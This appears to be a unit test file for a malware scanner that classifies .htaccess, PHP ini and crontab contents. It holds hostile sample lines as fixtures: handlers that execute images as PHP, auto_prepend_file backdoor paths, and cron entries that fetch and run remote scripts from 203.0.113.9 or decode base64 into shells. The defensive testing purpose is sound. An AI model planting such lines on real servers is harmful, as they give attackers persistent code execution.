@@ -1,0 +1,204 @@
+/* Settings: .htaccess, .user.ini, php.ini and crontabs; each case a file of its own, and what is said of it. */
+#include "base/arena.h"
+#include "scan/config.h"
+#include "scan/directive.h"
+#include "scan/lex.h"
+#include "scan/php.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <cmocka.h>
+
+struct config_case {
+	const char *text, *rule; /* NULL: clean, and nothing of weight is said */
+	uint32_t line;
+};
+
+static void one_case(const char *path, const struct config_case *c)
+{
+	struct arena *arena = arena_new();
+	struct judgement j;
+	struct events ev;
+	uint32_t line = 0, column = 0;
+	bool found = false;
+
+	config_judge(span_str(path), span_str(c->text), arena, &ev, &j);
+	for (uint32_t i = 0; i < j.reasons && c->rule && !found; i++) {
+		found = strcmp(j.reason[i].rule, c->rule) == 0;
+		if (found)
+			lex_place(ev.text[0], ev.event[j.reason[i].event - 1].at, &line, &column);
+	}
+	if (c->rule && !found)
+		fail_msg("%s\n is not %s", c->text, c->rule);
+	if (!c->rule && j.verdict != SCAN_CLEAN)
+		fail_msg("%s\n is %s", c->text, j.reason[0].rule);
+	if (found && line != c->line)
+		fail_msg("%s\n is told of line %u", c->text, line);
+	assert_int_equal(j.limits, 0);
+	arena_free(arena);
+}
+
+#define CASES(path, list)                                             \
+	for (size_t i = 0; i < sizeof(list) / sizeof((list)[0]); i++) \
+	one_case(path, &(list)[i])
+
+static void htaccess(void **state)
+{
+	static const struct config_case list[] = {
+		{ "AddHandler application/x-httpd-php .jpg", "config.handler", 1 },
+		{ "addhandler application/x-httpd-ea-php81 jpg", "config.handler", 1 },
+		{ "AddType 'application/x-httpd-php' .png .gif", "config.handler", 1 },
+		{ "AddHandler application/x-lsphp .ico", "config.handler", 1 },
+		{ "AddHandler php7-script .txt", "config.handler", 1 },
+		{ "AddHandler \\\n  php5-script \\\n .php .gif", "config.handler", 1 },
+		{ "<FilesMatch \"\\.(jpe?g|png)$\">\nSetHandler application/x-httpd-php\n</FilesMatch>",
+		  "config.handler", 2 },
+		{ "<Files logo.gif>\n\tForceType application/x-httpd-php\n</Files>", "config.handler", 2 },
+		{ "<IfModule x>\n<FilesMatch (png|gif)$>\n<IfModule y>\nSetHandler "
+		  "\"proxy:unix:/run/php/php8.2-fpm.sock|fcgi://x\"",
+		  "config.handler", 4 },
+		{ "<If \"%{REQUEST_URI} =~ m#\\.jpg$#\">\nSetHandler x-httpd-php\n</If>", "config.handler",
+		  2 },
+		{ "Options +ExecCGI\nAddHandler cgi-script .jpg", "config.handler", 2 },
+		{ "Options +ExecCGI\nAddHandler fcgid-script .png", "config.handler", 2 },
+		{ "php_value auto_prepend_file /home/u/www/logo.png", "config.prepend.hidden", 1 },
+		{ "php_value auto_append_file \"php://input\"", "config.prepend.hidden", 1 },
+		{ "PHP_VALUE AUTO_PREPEND_FILE .htaccess", "config.prepend.place", 1 },
+		{ "SetEnv PHP_VALUE \"auto_prepend_file=/dev/shm/x.php\"", "config.prepend.place", 1 },
+		{ "php_value auto_prepend_file /home/u/www/wp-content/uploads/a.php", "config.prepend.place",
+		  1 },
+		{ "RewriteCond %{HTTP_REFERER} (google|bing|yahoo)\nRewriteRule . http://x.example/ [R,L]",
+		  "config.redirect", 2 },
+		/* what honest sites have */
+		{ "AddHandler application/x-httpd-php81 .php .phtml .html", NULL, 0 },
+		{ "AddType application/x-httpd-php-source .phps .txt", NULL, 0 },
+		{ "<FilesMatch \"\\.(jpg|png)$\">\nHeader set Cache-Control max-age=9\n</FilesMatch>\n"
+		  "<FilesMatch \"\\.php$\">\nSetHandler "
+		  "\"proxy:unix:/run/php/php8.2-fpm.sock|fcgi://x\"\n</FilesMatch>",
+		  NULL, 0 },
+		{ "<Files zip>\nForceType application/x-httpd-php\n</Files>", NULL, 0 },
+		{ "RemoveHandler .php .jpg\nAddType text/plain .php .jpg", NULL, 0 },
+		{ "AddHandler cgi-script .php .pl .jpg\nOptions -ExecCGI", NULL, 0 },
+		{ "# AddHandler application/x-httpd-php .jpg", NULL, 0 },
+		{ "php_value auto_prepend_file none", NULL, 0 },
+		{ "RewriteRule ^(.*)$ https://www.example/$1 [R=301,L]", NULL, 0 },
+	};
+
+	CASES("/home/u/www/.htaccess", list);
+	(void)state;
+}
+
+static void ini(void **state)
+{
+	static const struct config_case list[] = {
+		{ "memory_limit=1G\r\nauto_prepend_file=\"/tmp/.x.php\"\r\n", "config.prepend.place", 2 },
+		{ "auto_append_file = https://203.0.113.9/a", "config.prepend.hidden", 1 },
+		{ "auto_prepend_file = ../lib/first.php", "config.prepend", 1 },
+		{ ";auto_prepend_file = /tmp/x.php", NULL, 0 },
+		{ "auto_prepend_file =\nauto_append_file = \"none\"", NULL, 0 },
+		{ "auto_prepend_file = '/home/u/www/wordfence-waf.php'", NULL, 0 },
+	};
+
+	CASES("/home/u/www/.user.ini", list);
+	CASES("php.ini", list);
+	(void)state;
+}
+
+static void cron(void **state)
+{
+	static const struct config_case list[] = {
+		{ "*/5 * * * * curl -s http://203.0.113.9/a.sh | bash", "config.cron.fetch", 1 },
+		{ "*/5 * * * * wget -qO- http://203.0.113.9/a|/usr/bin/php8.2", "config.cron.fetch", 1 },
+		{ "@hourly bash -c \"$(curl -fsSL http://203.0.113.9/a)\"", "config.cron.fetch", 1 },
+		{ "1 2 * * * bash <(curl -s http://203.0.113.9/a)", "config.cron.fetch", 1 },
+		{ "1 2 * * * sh -c \"wget -O - http://203.0.113.9/a | perl\"", "config.cron.fetch", 1 },
+		{ "1 2 * * * curl http://203.0.113.9/a -o /tmp/a; chmod +x /tmp/a; /tmp/a",
+		  "config.cron.fetch", 1 },
+		{ "1 2 * * * wget --output-document=/tmp/a http://203.0.113.9/a && php /tmp/a",
+		  "config.cron.fetch", 1 },
+		{ "1 2 * * * curl http://203.0.113.9/a >/tmp/a ; sh /tmp/a", "config.cron.fetch", 1 },
+		{ "*/5 * * * * echo ZWNobyAxOw== | base64 -d | sh", "config.cron.decode", 1 },
+		{ "*/5 * * * * php -r 'eval(base64_decode(\"ZWNobyAxOw==\"));'", "config.cron.decode", 1 },
+		{ "*/5 * * * * python3 -c \"import base64;exec(base64.b64decode('cGFzcw=='))\"",
+		  "config.cron.decode", 1 },
+		{ "0 * * * * wget -q http://203.0.113.9/a.txt -O /home/u/www/wp-content/a.php",
+		  "config.cron.write", 1 },
+		{ "0 * * * * php -q /home/u/www/img/a.jpg >/dev/null 2>&1", "config.cron.picture", 1 },
+		{ "# m h\n\n@reboot nohup /dev/shm/.k/worker &", "config.cron.place", 3 },
+		{ "@daily cd /var/tmp/.a && ./run", "config.cron.place", 1 },
+		{ "@daily perl /tmp/a.pl", "config.cron.place", 1 },
+		/* what honest accounts have */
+		{ "0 3 * * * wget -q -O /dev/null https://shop.example/wp-cron.php?doing_wp_cron", NULL, 0 },
+		{ "0 3 * * * curl -s https://shop.example/cron.php >/home/u/cron.log 2>&1", NULL, 0 },
+		{ "*/5 * * * * /usr/bin/php /home/u/www/cron.php --feed=https://a.example/b.xml > "
+		  "/tmp/feed.log",
+		  NULL, 0 },
+		{ "*/5 * * * * cd /home/u/app && php artisan schedule:run >> /dev/null 2>&1", NULL, 0 },
+		{ "30 2 * * 0 mysqldump db | gzip > /tmp/db.sql.gz", NULL, 0 },
+		{ "10 2 * * * \"/home/u/.acme.sh\"/acme.sh --cron --home \"/home/u/.acme.sh\" > /dev/null",
+		  NULL, 0 },
+		{ "*/5 * * * * flock -n /tmp/x.lock /usr/bin/php /home/u/www/q.php", NULL, 0 },
+		{ "0 4 * * * php /home/u/www/import.php /home/u/data/list.txt", NULL, 0 },
+		{ "0 4 * * * curl -O https://data.example/rates.csv", NULL, 0 },
+		{ "0 4 * * * cat /home/u/a.txt | mail -s report u@example.net", NULL, 0 },
+		{ "MAILTO=u@example.net\nSHELL=/bin/bash\nPATH=/usr/bin:/tmp", NULL, 0 },
+	};
+	static const struct config_case system[] = {
+		{ "17 * * * * root /tmp/a", "config.cron.place", 1 },
+		{ "17 * * * * root cd / && run-parts --report /etc/cron.hourly", NULL, 0 },
+		{ "17 * * * * www-data curl -s http://203.0.113.9/a | sh", "config.cron.fetch", 1 },
+	};
+
+	CASES("/var/spool/cron/crontabs/u", list);
+	CASES("/var/spool/cron/tabs/u", list);
+	CASES("/etc/cron.d/a", system);
+	CASES("/etc/crontab", system);
+	(void)state;
+}
+
+/* What lies behind the limits is told. */
+static void limits(void **state)
+{
+	enum { SIZE = 8000000 };
+	static const char *const pieces[] = { "Require all granted\n",
+					      "RewriteCond %{HTTP_USER_AGENT} gooooooogle\n",
+					      "AddHandler php .jp .jp .jp .jp .jp\n",
+					      "a",
+					      "\\\n",
+					      "<\n",
+					      "* * * * * curl -o a -o b a|(`a|(`a|(`a;cd /tmp\n" };
+	char *text = malloc(SIZE);
+
+	assert_non_null(text);
+	for (size_t i = 0; i < sizeof(pieces) / sizeof(*pieces); i++)
+		for (int k = 0; k < 3; k++) {
+			static const char *const paths[] = { "/h/.htaccess", "/h/.user.ini", "/h/crontab" };
+			struct arena *arena = arena_new();
+			size_t n = strlen(pieces[i]);
+			struct judgement j;
+			struct events ev;
+
+			for (size_t at = 0; at < SIZE; at++)
+				text[at] = pieces[i][at % n];
+			config_judge(span_str(paths[k]), span_of(text, SIZE), arena, &ev, &j);
+			assert_true(j.limits & LIMIT_STEPS);
+			arena_free(arena);
+		}
+	free(text);
+	(void)state;
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(htaccess),
+		cmocka_unit_test(ini),
+		cmocka_unit_test(cron),
+		cmocka_unit_test(limits),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
